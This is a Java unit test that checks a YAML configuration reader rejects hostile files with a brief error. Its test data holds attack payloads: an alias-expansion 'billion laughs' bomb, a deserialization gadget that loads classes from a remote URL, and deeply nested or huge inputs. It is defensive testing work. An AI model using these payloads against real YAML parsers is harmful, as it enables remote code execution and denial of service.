package org.rlvr4j.run.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** YAML can do more than a configuration needs: refer to itself, name classes, and nest. */
class HostileConfigsTest {

    @TempDir
    private Path folder = Path.of("");

    @ParameterizedTest
    @MethodSource("files")
    void fileIsRefusedWithOneSentenceThatNamesIt(String yaml) throws IOException {
        Path file = Files.writeString(folder.resolve("run.yaml"), yaml);

        assertThatThrownBy(() -> RunConfig.read(file, List.of(), List.of()))
                .isExactlyInstanceOf(IllegalArgumentException.class)
                .satisfies(e -> assertThat(e.getMessage())
                        .startsWith(file + ": ")
                        .hasSizeLessThan(500)
                        .doesNotContain("\n"));
    }

    static Stream<String> files() {
        String laughs =
                "a: &a [x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a]\nc: &c [*b, *b, *b, *b, *b, *b, *b, *b]\n";
        return Stream.of(
                laughs + "d: &d [*c, *c, *c, *c, *c, *c, *c, *c]\nseeds: [*d, *d, *d, *d, *d, *d, *d, *d]\n",
                "&a [*a]",
                "seeds: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL"
                        + " ['http://x/']]]]",
                "!!org.rlvr4j.run.config.RunConfig {}",
                "a: ".repeat(100_000),
                "[".repeat(100_000),
                "{a: ".repeat(100_000),
                "- ".repeat(100_000),
                "seeds: " + "9".repeat(100_000),
                "x".repeat(100_000) + ": 1");
    }
}
